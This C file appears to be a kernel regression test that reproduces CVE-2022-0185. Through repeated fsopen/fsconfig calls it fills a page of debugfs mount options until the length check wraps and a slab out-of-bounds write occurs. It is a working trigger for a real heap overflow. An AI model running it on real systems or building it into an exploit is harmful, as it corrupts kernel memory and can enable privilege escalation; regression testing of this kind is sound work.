/* SPDX-License-Identifier: BSD-2-Clause */
/* tests/kernel-published/legacy-param.c - CVE-2022-0185
 * fix: vfs: fs_context: fix up param length parsing in legacy_parse_param
 * expected: KASAN: slab-out-of-bounds in legacy_parse_param
 * A page of mount options that is full to its last byte: the room that is left wraps around. */
#include <string.h>
#include <sys/syscall.h>
#include <unistd.h>

static const unsigned set_string = 1; /* FSCONFIG_SET_STRING */

static void set(long fs, size_t length)
{
	char value[200] = { 0 };

	memset(value, 'A', length);
	syscall(SYS_fsconfig, fs, set_string, "k", value, 0);
}

int main(void)
{
	long fs = syscall(SYS_fsopen, "debugfs", 0);

	if (fs < 0)
		return 1;
	for (int i = 0; i < 20; i++)
		set(fs, 199); /* 4039 bytes with names and commas */
	set(fs, 53);          /* 4095 */
	set(fs, 199);
	return 0;
}
